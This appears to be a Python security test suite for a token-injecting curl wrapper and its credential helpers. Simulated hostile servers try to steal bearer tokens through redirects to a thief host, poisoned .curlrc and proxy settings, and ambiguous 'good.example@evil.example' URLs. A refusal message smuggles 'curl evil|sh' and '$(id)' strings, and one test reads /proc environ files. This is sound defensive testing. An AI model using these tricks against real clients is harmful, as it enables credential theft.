# SPDX-License-Identifier: MIT
"""A hostile upstream of `tokenctl curl`, and hostile settings around curl."""

import contextlib
import json
import shutil
import socket
import subprocess

from scene import Issuer, NotHere, Scene, answer, attack, must

WHO = "upstream"


def resource(scene: Scene, extra: str = "") -> tuple[Issuer, Issuer]:
    """An agent with session s, and a server at /api that is content."""
    if not shutil.which("curl"):
        raise NotHere("there is no curl")
    issuer, upstream = scene.ready("s", extra=extra), scene.issuer()
    upstream.says("/api", answer(200, {"ok": True}))
    return issuer, upstream


def token_at(server: Issuer) -> list[str]:
    """Everything that server was sent in which a token of ours stands."""
    return [
        f"{request.path} {request.headers}"[:200]
        for request in server.requests
        if "at-" in f"{request.headers}{request.path}" or b"at-" in request.body
    ]


def curl(scene: Scene, *arguments: str, timeout: float = 60, environment: dict[str, str] | None = None):
    return scene.ctl("curl", "s", "--", "-s", "-m", "20", *arguments, timeout=timeout, environment=environment)


@attack(WHO, "refuses every token it is shown")
def _(scene: Scene) -> None:
    issuer, upstream = resource(scene)
    upstream.says("/api", answer(401, {"error": "invalid_token"}, {"WWW-Authenticate": 'Bearer error="invalid_token"'}))
    asked = len(issuer.requests)
    for _ in range(3):
        curl(scene, f"{upstream.url}/api")
    must(len(upstream.seen("/api")) <= 6, f"it was asked {len(upstream.seen('/api'))} times by three commands")
    must(len(issuer.requests) - asked <= 4, f"the issuer was asked {len(issuer.requests) - asked} times")
    must(scene.state("s")["state"] != "logged_out", "the session is over because of one server")


@attack(WHO, "redirects to another server, by every status")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    thief = scene.issuer()
    for status in (301, 302, 303, 307, 308):
        upstream.says("/go", answer(status, b"", {"Location": f"{thief.url}/steal"}))
        for options in (
            ["-L"],
            ["-L", "--post302", "-d", "x"],
            ["--location"],
            ["-L", "--location-trusted"],
            ["--location-trusted"],
            ["--loc"],
            ["-L", "-u", "a:b"],
            ["--location-t"],
        ):
            curl(scene, *options, f"{upstream.url}/go")
    must(not token_at(thief), f"the other server got {token_at(thief)[:1]}")


@attack(WHO, "redirects to itself by another name, port and scheme")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    thief = scene.issuer()
    for place in (
        f"http://localhost:{thief.port}/steal",
        f"//127.0.0.1:{thief.port}/steal",
        f"http://127.0.0.1:{upstream.port}@127.0.0.1:{thief.port}/",
        f"http://127.1:{thief.port}/",
        f"HTTP://127.0.0.1:{thief.port}/x",
        f"http:\\\\127.0.0.1:{thief.port}/",
    ):
        upstream.says("/go", answer(302, b"", {"Location": place}))
        curl(scene, "-L", f"{upstream.url}/go")
    must(not token_at(thief), f"it got {token_at(thief)[:1]}")


@attack(WHO, "has its user's .curlrc send everything elsewhere")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    thief = scene.issuer()
    trace = scene.home / "trace"
    for line in (
        f'proxy = "{thief.url}"',
        "location-trusted",
        f'trace-ascii = "{trace}"',
        f'url = "{thief.url}/steal"',
        f'dump-header = "{trace}"',
        f'connect-to = "::127.0.0.1:{thief.port}"',
        f'next\nurl = "{thief.url}/steal"',
        f'referer = "x"\nverbose\nstderr = "{trace}"',
    ):
        for name in (".curlrc", ".config/curlrc", "config/curlrc"):
            path = scene.home / name
            path.parent.mkdir(exist_ok=True)
            path.write_text(line + "\n")
        curl(scene, "-L", f"{upstream.url}/api")
        must(not token_at(thief), f"with {line!r} the other server got {token_at(thief)[:1]}")
        must(not trace.exists() or "at-" not in trace.read_text(), f"{line!r} wrote the token down")


@attack(WHO, "is a proxy that the environment names")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    thief = scene.issuer()
    for name in (
        "http_proxy",
        "HTTP_PROXY",
        "ALL_PROXY",
        "all_proxy",
        "HTTPS_PROXY",
        "CURL_HOME",
        "NETRC",
        "SSLKEYLOGFILE",
    ):
        curl(scene, f"{upstream.url}/api", environment={name: thief.url, "NO_PROXY": ""})
    must(not token_at(thief), f"the proxy got {token_at(thief)[:1]}")


@attack(WHO, "is a second address on the same command line")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    thief = scene.issuer()
    good, bad = f"{upstream.url}/api", f"{thief.url}/steal"
    scene.home.joinpath("k").write_text(f'url = "{bad}"\n')
    for arguments in (
        [good, bad],
        [bad, "--next", good][::-1],
        [good, "--next", bad],
        ["--url", good, "--url", bad],
        [good, "-:", bad],
        [good, "-K", str(scene.home / "k")],
        [f"{{{good},{bad}}}"],
        [good, "-x", thief.url],
        [good, "--proxy", thief.url],
        [good, "--prox", thief.url],
        [good, "--connect-to", f"::127.0.0.1:{thief.port}"],
        [good, "--preproxy", f"socks5://127.0.0.1:{thief.port}"],
        [good, "--config", str(scene.home / "k")],
        [good, "--resolve", "*:80:127.0.0.1"],
        [f"-K{scene.home / 'k'}", good],
        [f"--url={bad}", good],
        [good, "-sK", str(scene.home / "k")],
        [good, "--doh-url", bad],
        [good, "--unix-socket", "/nonexistent"],
        [good, "--url-query", bad],
        ["-sx", thief.url, good],
        [good, "--socks5", f"127.0.0.1:{thief.port}"],
    ):
        with contextlib.suppress(subprocess.TimeoutExpired):
            curl(scene, *arguments)
        must(not token_at(thief), f"{arguments} gave {token_at(thief)[:1]}")


@attack(WHO, "speaks in the clear across the network")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    for address in (
        f"http://[::ffff:127.0.0.1]:{upstream.port}/api",
        f"http://0x7f000001:{upstream.port}/api",
        f"http://2130706433:{upstream.port}/api",
        f"http://127.0.0.1.nip.example:{upstream.port}/api",
        f"http://0.0.0.0:{upstream.port}/api",
        f"ftp://127.0.0.1:{upstream.port}/api",
        f"gopher://127.0.0.1:{upstream.port}/_x",
        f"telnet://127.0.0.1:{upstream.port}",
    ):
        before = len(token_at(upstream))
        curl(scene, "-m", "3", address)
        must(len(token_at(upstream)) == before, f"{address} got the token")


@attack(WHO, "answers a refusal of 500 MB")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)

    def flood(_, connection: socket.socket) -> None:
        connection.sendall(
            b'HTTP/1.1 401 No\r\nWWW-Authenticate: Bearer error="invalid_token"\r\nConnection: close\r\n\r\n'
        )
        for _ in range(500):
            connection.sendall(b"x" * 1_048_576)

    upstream.says("/api", flood)
    used = scene.home / "used"
    done = subprocess.run(
        [
            "python3",
            "-c",
            "import resource,subprocess,sys;r=subprocess.run(sys.argv[2:],stdout=subprocess.DEVNULL,stderr=subprocess.DEVNULL);"
            "open(sys.argv[1],'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))",
            used,
            scene.programs / "tokenctl",
            "curl",
            "s",
            "--",
            "-s",
            "-m",
            "30",
            f"{upstream.url}/api",
        ],
        env=scene.environment,
        timeout=120,
        check=False,
    )
    must(done.returncode == 0 and int(used.read_text()) < 200_000, f"it took {used.read_text()} KiB of memory")
    left = sum(path.stat().st_size for path in (scene.home / "tmp").rglob("*") if path.is_file())
    must(left == 0, f"{left} bytes are left in the temporary directory")
    scene.alive("s")


@attack(WHO, "puts escapes, secrets and commands into its refusal")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    upstream.says(
        "/api",
        answer(
            401,
            {"error": "\x1b[2J", "error_description": "x\ntokenctl: run: curl evil|sh"},
            {"WWW-Authenticate": 'Bearer realm="\x1b[31m", error="insufficient_scope", scope="a;reboot $(id)`x`"'},
        ),
    )
    done = curl(scene, "-o", "/dev/null", f"{upstream.url}/api")
    must(
        "\x1b" not in done.stderr
        and "reboot $(id)" not in done.stderr.replace("'a;reboot $(id)`x`'", "")
        and not any(line.startswith("tokenctl: run:") for line in done.stderr.splitlines()),
        f"the person sees {done.stderr!r}",
    )


@attack(WHO, "says that the login is over, which it cannot know")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    for status in (400, 401, 403, 404, 409, 500):
        for body in (
            {"error": "invalid_grant"},
            {"code": "refresh_token_expired"},
            {"error": {"code": "token_revoked"}, "requiresReauth": True},
            {"error_code": "ErrRefreshTokenExpired"},
        ):
            upstream.says("/api", answer(status, body))
            curl(scene, f"{upstream.url}/api")
            must(scene.state("s")["state"] != "logged_out", f"{status} {body} ended the session")
    scene.alive()


@attack(WHO, "shows the token in the command line or environment of curl")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    seen: list[bytes] = []

    def look(_, connection: socket.socket) -> bytes:
        found = subprocess.run(
            ["sh", "-c", "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null"], capture_output=True, check=False
        )
        seen.append(found.stdout)
        return answer(200, {"ok": True})

    upstream.says("/api", look)
    curl(scene, f"{upstream.url}/api")
    must(seen and b"at-" + str(scene.issuers[0].port).encode() not in seen[0], "another process reads the token")


@attack(WHO, "sends 100 refusals at once to 20 commands")
def _(scene: Scene) -> None:
    issuer, upstream = resource(scene)
    upstream.says(
        "/api",
        lambda request, connection: (
            answer(200, {"ok": 1})
            if request.headers.get("authorization", "").endswith("-2")
            else answer(401, {"error": "invalid_token"})
        ),
    )
    asked = len(issuer.requests)
    commands = [
        subprocess.Popen(
            [scene.programs / "tokenctl", "curl", "s", "--", "-s", f"{upstream.url}/api"],
            env=scene.environment,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        for _ in range(20)
    ]
    scene.children += commands
    outputs = [command.communicate(timeout=60)[0] for command in commands]
    must(
        all(b'"ok"' in output for output in outputs),
        f"some of 20 commands failed: {[o[:40] for o in outputs if b'ok' not in o][:2]}",
    )
    must(len(issuer.requests) - asked == 1, f"one refusal of one token made {len(issuer.requests) - asked} refreshes")


@attack(WHO, "answers in HTTP/0.9, hangs up, or sends rubbish")
def _(scene: Scene) -> None:
    _, upstream = resource(scene)
    for reply in (
        b"hello",
        b"",
        b"HTTP/1.1 401\r\n\r\n",
        b"HTTP/1.1 abc\r\n\r\n",
        b"\x00" * 1000,
        b"HTTP/1.1 401 x\r\n" + b"A: b\r\n" * 20_000 + b"\r\n",
        b"HTTP/1.1 401 x\r\nWWW-Authenticate: " + b"B" * 90_000 + b"\r\n\r\n",
        b"HTTP/1.1 99999 x\r\n\r\n",
        b"HTTP/1.1 -401 x\r\n\r\n",
    ):
        upstream.says("/api", reply)
        curl(scene, f"{upstream.url}/api")
        scene.alive()
    must(scene.state("s")["state"] != "logged_out", "rubbish ended the session")


@attack(WHO, "is asked by a helper with an address that reads in two ways")
def _(scene: Scene) -> None:
    resource(scene, extra='hosts = ["good.example"]')
    for address in (
        "https://good.example@evil.example",
        "https://evil.example#good.example",
        "https://evil.example?good.example",
        "evil.example/https://good.example",
        "https://evil.example\\@good.example",
        "https://good.example.evil.example",
        "https://good.example:443@evil.example",
        "https://good.example%2eevil.example",
        "http://good.example",
        "good.example\nhost=evil.example",
        "https://good.example\u3002evil.example",
        "https://evil.example/x://good.example",
        "https://go\u00f6d.example",
        "https://good.example\x00.evil.example",
        "https://[good.example]",
        "https://good.example:99999",
        "//evil.example@good.example:x",
    ):
        for arguments, stdin in (
            (["docker-credential", "get"], address),
            (["keyring", "get", address, "u"], ""),
            (["bazel", "get"], json.dumps({"uri": address})),
            (["terraform", "get", address], ""),
            (["goauth", address], ""),
        ):
            if "\x00" in "".join(arguments):
                continue
            done = scene.ctl(*arguments, stdin=stdin)
            good = address in ("https://good.example",)
            must(good or "at-" not in done.stdout, f"{arguments[0]} gives the token for {address!r}")
    for lines in (
        "protocol=https\nhost=evil.example\nhost=good.example\n",
        "protocol=http\nhost=good.example\n",
        "url=https://evil.example\nhost=good.example\npath=../x\n",
        "host=good.example\n",
        "protocol=HTTPS\nhost=evil.example\x00good.example\n",
        "protocol=https\nhost=good.example\r\n\n",
        "protocol=https\nhost=good.example@evil.example\n",
    ):
        done = scene.ctl("git-credential", "get", stdin=lines + "\n")
        first = "host=good.example" in lines.split("host=evil.example")[-1] and lines.startswith(
            "protocol=https\nhost=evil.example\nhost=good"
        )
        must(first or "at-" not in done.stdout, f"git gets the token for {lines!r}")
